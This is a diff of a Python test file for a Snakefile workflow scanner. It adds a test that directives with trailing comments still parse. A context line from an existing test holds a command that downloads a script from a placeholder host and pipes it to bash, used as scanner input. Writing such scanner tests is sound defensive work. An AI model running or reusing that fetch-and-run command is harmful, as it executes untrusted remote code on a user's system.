@@ -111,3 +111,18 @@ def test_a_handler_printing_through_its_own_shell_helper_stays_quiet(tmp_path: P
         "    shell('curl -fsSL https://example.invalid/x.sh | bash  # shown to the user only')\n"
     )
     assert scan_errors(tmp_path, {"Snakefile": workflow}) == set()
+
+
+def test_directives_with_trailing_comments_still_parse() -> None:
+    workflow = (
+        "rule align:\n"
+        "    input: 'reads/a.fq'  # raw reads\n"
+        "    output:\n"
+        "        'bam/a.bam',\n"
+        "    threads: 8  # one node\n"
+        "    params: extra='-M'  # '#' kept in quotes\n"
+        "    shell: 'bwa mem -t {threads} ref.fa {input} > {output}'\n"
+    )
+    (python, command) = snakefiles.snippets("Snakefile", "Snakefile", workflow, 1)
+    ast.parse(python.text)
+    assert command.first_line == 7
